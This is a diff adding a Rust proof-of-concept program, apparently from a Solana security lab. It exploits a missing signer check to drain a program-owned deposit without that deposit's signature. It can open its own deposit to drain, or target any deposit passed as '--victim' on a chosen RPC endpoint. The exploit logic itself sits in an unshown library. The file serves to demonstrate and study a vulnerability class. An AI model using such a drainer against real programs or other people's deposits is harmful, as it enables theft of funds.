@@ -0,0 +1,67 @@
+//! poc-missing-signer-check: withdraws a deposit nobody signed for
+//!
+//! ```bash
+//! poc-missing-signer-check [--rpc URL] [--victim DEPOSIT] [--amount LAMPORTS]
+//! ```
+//!
+//! Without `--victim`, opens a deposit of its own first: an account the
+//! program owns holding `--amount`, whose keypair is thrown away before
+//! the withdrawal.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::missing_signer_check::Client;
+use lab_client::{Keypair, Signer};
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-missing-signer-check",
+    about = "Withdraw everything in a missing_signer_check deposit without its signature"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// The deposit to drain (default: one this opens)
+    #[arg(long)]
+    victim: Option<Pubkey>,
+    /// What the deposit this opens holds beyond its rent
+    #[arg(long, default_value_t = 100_000_000)]
+    amount: u64,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("missing_signer_check")?);
+    let mut report = Report::new("missing_signer_check", &args.target, &client);
+    let deposit = match args.victim {
+        Some(deposit) => deposit,
+        None => {
+            let deposit = Keypair::new();
+            let signature = client.create_account(&deposit, 0, args.amount).await?;
+            report.setup(
+                format!(
+                    "opened deposit {} with {} lamports",
+                    deposit.pubkey(),
+                    args.amount
+                ),
+                signature,
+            );
+            deposit.pubkey()
+        }
+    };
+
+    report.inspect(&client, "before", deposit).await?;
+    let drained = client.exploit_drain(deposit).await;
+    report.inspect(&client, "after", deposit).await?;
+    Ok(report.exploit(
+        deposit,
+        drained.map(|stolen| Exploit::took(stolen, deposit)),
+    ))
+}